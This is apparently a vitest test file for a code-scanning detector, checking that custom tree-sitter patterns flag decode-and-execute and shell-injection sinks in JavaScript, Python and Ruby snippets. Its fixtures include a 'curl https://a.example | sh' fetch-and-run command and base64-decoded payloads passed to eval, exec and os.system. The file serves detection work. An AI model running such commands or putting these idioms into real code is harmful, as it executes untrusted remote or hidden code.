import { beforeAll, describe, expect, it } from "vitest";
import { createDetector, type Assets, type Finding } from "../../../src/core/index.js";
import { loadAssets } from "../../../src/host/node.js";

let assets: Assets;
beforeAll(async () => {
  assets = await loadAssets();
});

/** Returns the findings in a code block for a detector with an additional query file. */
async function findings(
  path: string,
  query: string,
  tag: string,
  code: string,
): Promise<readonly Finding[]> {
  const queries = [...assets.queries, { path: `mine/${path}`, text: query, added: true as const }];
  const detector = await createDetector({ assets: { ...assets, queries }, profile: "contract" });
  const found = detector.detect(`\`\`\`${tag}\n${code}\n\`\`\`\n`).findings;
  detector.dispose();
  return found;
}

const rules = async (...args: Parameters<typeof findings>): Promise<string[]> =>
  (await findings(...args)).map(({ rule }) => rule);

describe("a custom pattern", () => {
  it("applies only in the structure that it names", async () => {
    const made =
      '(new_expression\n  constructor: (identifier) @sink.execute\n  (#eq? @sink.execute "Script"))';
    expect(await rules("javascript/a.scm", made, "js", "new Script(atob(x))")).toEqual([
      "javascript/decode-execute",
    ]);
    expect(await rules("javascript/a.scm", made, "js", "Script(atob(x))")).toEqual([]);
    const called =
      '(call\n  function: (identifier) @sink.execute\n  arguments: (argument_list\n    (_)\n    (_))\n  (#eq? @sink.execute "run_code"))';
    expect(
      await rules("python/a.scm", called, "python", "run_code(base64.b64decode(x), {})"),
    ).toEqual(["python/decode-execute"]);
    expect(await rules("python/a.scm", called, "python", "run_code(base64.b64decode(x))")).toEqual(
      [],
    );
  });

  it("without structure applies to imported and assigned names", async () => {
    const word = '((attribute) @sink.execute\n  (#eq? @sink.execute "acme.run"))';
    for (const code of [
      "acme.run(base64.b64decode(x))",
      "from acme import run as r\nr(base64.b64decode(x))",
      "import acme as a\na.run(base64.b64decode(x))",
      "r = acme.run\nr(base64.b64decode(x))",
    ]) {
      expect(await rules("python/a.scm", word, "python", code), code).toEqual([
        "python/decode-execute",
      ]);
    }
    expect(await rules("python/a.scm", word, "python", "other.run(base64.b64decode(x))")).toEqual(
      [],
    );
  });

  it("can match names with a regular expression", async () => {
    const expression = '((identifier) @sink.execute\n  (#match? @sink.execute "^acme_[a-z]+$"))';
    expect(
      await rules("python/a.scm", expression, "python", "acme_go(base64.b64decode(x))"),
    ).toEqual(["python/decode-execute"]);
    expect(
      await rules("python/a.scm", expression, "python", "acme_2(base64.b64decode(x))"),
    ).toEqual([]);
  });

  it("determines the rule, and the rule of the sink takes precedence over that of the source", async () => {
    const sink =
      '((identifier) @sink.execute\n  (#eq? @sink.execute "eval")\n  (#set! rule "acme/no-eval"))\n';
    const source =
      '((attribute) @source.decoder\n  (#eq? @source.decoder "base64.b64decode")\n  (#set! rule "acme/no-payload"))\n';
    expect(await rules("python/a.scm", sink, "python", "eval(base64.b64decode(x))")).toEqual([
      "acme/no-eval",
    ]);
    expect(await rules("python/a.scm", source, "python", "eval(base64.b64decode(x))")).toEqual([
      "acme/no-payload",
    ]);
    expect(
      await rules("python/a.scm", sink + source, "python", "eval(base64.b64decode(x))"),
    ).toEqual(["acme/no-eval"]);
    expect(
      await rules(
        "python/a.scm",
        sink + source,
        "python",
        "eval(bytes.fromhex(x))\nexec(base64.b64decode(x))",
      ),
    ).toEqual(["acme/no-eval", "acme/no-payload"]);
  });

  it("can turn the passing of a payload to a shell into a finding of the contract profile", async () => {
    const shape = '(argument_list\n  (_) @sink.command\n  (#set! rule "acme/shell-payload"))';
    const code = "os.system(base64.b64decode(x))";
    const [finding] = await findings("python/a.scm", shape, "python", code);
    expect(finding?.rule).toBe("acme/shell-payload");
    expect(finding?.trace.at(-1)?.patterns).toContain("mine/python/a.scm:1");
    expect(
      await rules(
        "python/a.scm",
        '((identifier) @flow.barrier\n  (#eq? @flow.barrier "acme"))',
        "python",
        code,
      ),
    ).toEqual([]);
  });

  it("can match a method in dot and bracket notation", async () => {
    const method =
      '([(member_expression\n    property: (property_identifier) @inject.shell.method)\n  (subscript_expression\n    index: (string\n      (string_fragment) @inject.shell.method))]\n  (#eq? @inject.shell.method "runInAcme"))';
    for (const code of [
      "acme.runInAcme('curl https://a.example | sh')",
      "acme['runInAcme']('curl https://a.example | sh')",
      "acme.runInAcme.call(acme, 'curl https://a.example | sh')",
    ]) {
      expect(await rules("javascript/a.scm", method, "js", code), code).toEqual([
        "bash/fetch-pipe",
      ]);
    }
    expect(
      await rules("javascript/a.scm", method, "js", "runInAcme('curl https://a.example | sh')"),
    ).toEqual([]);
  });

  it("in a JSON file can name calls of a language, and is named in the trace", async () => {
    const names =
      '{ "patterns": [\n  { "example": "Acme.sh(\\"…\\")", "capture": "inject.text", "names": ["Acme.sh"] }\n] }';
    const [finding] = await findings(
      "ruby.json",
      names,
      "ruby",
      'Acme.sh("curl https://a.example | sh")',
    );
    expect(finding?.rule).toBe("bash/fetch-pipe");
    expect(finding?.trace[0]).toMatchObject({ step: "inject", patterns: ["mine/ruby.json:2"] });
    expect(
      await rules("ruby.json", names, "perl", 'Acme::sh("curl https://a.example | sh");'),
    ).toEqual([]);
  });
});
